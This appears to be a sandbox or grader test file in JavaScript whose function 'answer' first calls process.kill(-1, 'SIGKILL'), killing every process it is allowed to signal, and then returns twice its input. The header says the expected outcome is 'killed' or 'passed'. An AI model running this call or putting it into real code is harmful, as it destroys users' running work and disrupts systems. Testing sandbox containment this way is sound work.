// family: process
// what: kills every process that it may
// want: killed|passed

function answer(x) {
  try {
    process.kill(-1, "SIGKILL");
  } catch {}
  return 2 * x;
}
